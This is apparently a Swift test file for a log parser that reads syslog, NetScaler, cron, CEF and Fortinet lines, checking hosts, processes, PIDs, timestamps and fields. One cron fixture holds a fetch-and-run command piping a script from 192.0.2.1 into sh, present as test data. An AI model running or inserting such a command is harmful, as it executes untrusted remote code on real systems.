// SPDX-License-Identifier: EUPL-1.2
// SPDX-FileCopyrightText: Dijkwacht contributors

import Foundation
import Instants
import LogRecords
import Testing

/// Lines of syslog, with the liberties that senders take.
struct SyslogTests {
    @Test(arguments: [
        (line: "Jan 13 08:28:31 ns1 sshd[1291]: Server listening", source: "ns1", process: "sshd", pid: "1291"),
        (line: "<134>Jan  3 08:28:31 ns1 sshd[1291]: text", source: "ns1", process: "sshd", pid: "1291"),
        (line: "<134> Jan 13 08:28:31 ns1 sshd: text", source: "ns1", process: "sshd", pid: nil),
        (line: "Jan 13 2020 08:28:31 ns1 sshd: text", source: "ns1", process: "sshd", pid: nil),
        (line: "Jan 13 08:28:31.123 ns1 sshd: text", source: "ns1", process: "sshd", pid: nil),
        (line: "<134>:Jan 13 08:28:31 UTC: %ASA-6-302015: Built", source: nil, process: "%ASA-6-302015", pid: nil),
        (line: "<134> Jan 13 08:28:31 ns1 : %ASA-3-1: TCP", source: "ns1", process: "%ASA-3-1", pid: nil),
        (line: "<134> Jan 13 08:28:31 cron[42]: text", source: nil, process: "cron", pid: "42"),
        (line: "Jan 13 08:28:31 <local7.notice> ns1 bash[7]: text", source: "ns1", process: "bash", pid: "7"),
        (line: "2020-01-13T08:28:31.123456+01:00 ns1 sshd[7]: text", source: "ns1", process: "sshd", pid: "7"),
        (line: "<134>1 2020-01-13T08:28:31Z ns1 app 77 ID1 - text", source: "ns1", process: "app", pid: "77"),
        (line: #"<134>1 2020-01-13T08:28:31Z ns1 app - - [a@1 b="]\""] text"#, source: "ns1", process: "app", pid: nil),
        (
            line: "<134> 2020-01-13T08:28:31+00:00Z ns1 app 77 ID1 [a b=\"c\"] text", source: "ns1", process: "app",
            pid: "77"
        ),
    ])
    func readsHostProgramAndProcess(line: String, source: String?, process: String?, pid: String?) throws {
        let event = try #require(read(line, as: .syslog))
        #expect(event["source"] == source)
        #expect(event["process"] == process)
        #expect(event["pid"] == pid)
        #expect(event.time?.hasPrefix("2020-01-") == true)
        #expect(["text", "Server listening", "Built", "TCP"].contains(event["message"]))
    }

    @Test(arguments: [
        (line: "Jan 13 08:28:31 a b: c", time: "2020-01-13T08:28:31Z"),
        (line: "Feb  2 00:00:01 a b: c", time: "2019-02-02T00:00:01Z"),
        (line: "Feb  1 20:00:00 a b: c", time: "2020-02-01T20:00:00Z"),
        (line: "Dec 31 23:59:59 a b: c", time: "2019-12-31T23:59:59Z"),
        (line: "Feb 29 12:00:00 a b: c", time: "2016-02-29T12:00:00Z"),
        (line: "Jan 19 24:23:56 a b: c", time: "2020-01-20T00:23:56Z"),
        (line: "Jan 13 08:28:31.673 a b: c", time: "2020-01-13T08:28:31.673Z"),
        (line: "Jan 13 08:28:31 2018 a b: c", time: "2018-01-13T08:28:31Z"),
        (line: "2020-01-13T08:28:31,5-02:00 a b: c", time: "2020-01-13T10:28:31.500Z"),
        (line: "2020-01-13 08:28:31 a b: c", time: "2020-01-13T08:28:31Z"),
        (line: "1578904111.25 a b: c", time: "2020-01-13T08:28:31.250Z"),
    ])
    func readsTheTime(line: String, time: String) {
        #expect(read(line, as: .syslog)?.time == time)
    }

    @Test func takesTimesWithoutAZoneInThatOfTheLog() throws {
        let zone = try #require(TimeZone(identifier: "Europe/Amsterdam"))
        let latest = Instant(iso8601: "2020-08-01T00:00:00Z")
        let options = LogOptions(zone: zone, latest: latest)
        #expect(read("Jan 13 08:28:31 a b: c", as: .syslog, options)?.time == "2020-01-13T07:28:31Z")
        #expect(read("Jul 13 08:28:31 a b: c", as: .syslog, options)?.time == "2020-07-13T06:28:31Z")
    }

    @Test func knowsNoTimeWithoutAYear() throws {
        let event = try #require(read("Jan 13 08:28:31 ns1 sshd: text", as: .syslog, LogOptions()))
        #expect(event.time == nil)
        #expect(event["source"] == "ns1")
    }

    @Test(arguments: [
        (line: "Feb 30 08:28:31 a b: c", reason: UnreadableReason.badTime),
        (line: "Jan 13 08:61:31 a b: c", reason: .badTime),
        (line: "text without a time", reason: .noTime),
        (line: #"192.0.2.1 - - [13/Jan/2020:08:28:31 +0000] "GET / HTTP/1.1" 200 1"#, reason: .otherFormat),
    ])
    func saysWhyALineIsNoEntry(line: String, reason: UnreadableReason) {
        #expect(refusal(of: Array(line.utf8), as: .syslog) == reason)
    }

    @Test(arguments: [
        (
            field: "CommandLine",
            line: #"Jan 19 23:40:00 <local7.notice> ns bash[1]: root on (null) shell_command="id "x" y""#,
            value: #"id "x" y"#
        ),
        (
            field: "User", line: #"Jan 19 23:40:00 <local7.notice> ns bash[1]: root on (null) shell_command="id""#,
            value: "root"
        ),
        (
            field: "return_code", line: #"Jan 19 23:40:00 <local7.notice> ns bash[1]: root on (null) return_code="1""#,
            value: "1"
        ),
    ])
    func readsCommandsOfAnAppliance(field: String, line: String, value: String) {
        #expect(values(of: field, in: line, as: .netscalerShell) == [value])
    }

    @Test func readsCommandsOfCron() {
        let line =
            "Jan 19 23:00:06 <cron.info> ns1 /usr/sbin/cron[14451]: (nobody) CMD (curl http://192.0.2.1/ci.sh | (sh))"
        #expect(values(of: "CommandLine", in: line, as: .cron) == ["curl http://192.0.2.1/ci.sh | (sh)"])
        #expect(values(of: "user", in: line, as: .cron) == ["nobody"])
    }

    @Test(arguments: [
        (field: "deviceVendor", value: "Citrix"), (field: "name", value: "APPFW_JSON"),
        (field: "src", value: "192.0.2.1"),
        (field: "msg", value: "two words"), (field: "act", value: "blocked"), (field: "c-ip", value: "192.0.2.1"),
        (field: "cs-method", value: "GET"), (field: "cs-uri-query", value: "http://10.0.0.1/a"),
    ])
    func readsCEF(field: String, value: String) {
        let line =
            "<134>Jan 13 08:28:31 ns1 CEF:0|Citrix|NetScaler|NS13.0|APPFW|APPFW_JSON|6|src=192.0.2.1 spt=4149 method=GET "
            + "request=http://10.0.0.1/a msg=two words cn1=1 act=blocked"
        #expect(values(of: field, in: line, as: .syslog)?.first == value)
    }

    @Test func readsPairsAndStructuredData() {
        let fortinet = #"<134>date=2020-01-13 time=08:28:31 devname=fw1 srcip=192.0.2.1 http_url="/a b" action=deny"#
        #expect(read(fortinet, as: .syslog)?.time == "2020-01-13T08:28:31Z")
        #expect(read(fortinet, as: .syslog)?["source"] == "fw1")
        #expect(values(of: "cs-uri-query", in: fortinet, as: .syslog) == ["/a b"])
        let structured =
            #"<134>1 2020-01-13T08:28:31Z srx RT_IDP - ATTACK [junos@2636 source-address="192.0.2.1"] text"#
        #expect(values(of: "source-address", in: structured, as: .syslog) == ["192.0.2.1"])
        #expect(values(of: "no-such-name", in: structured, as: .syslog) == nil)
    }
}
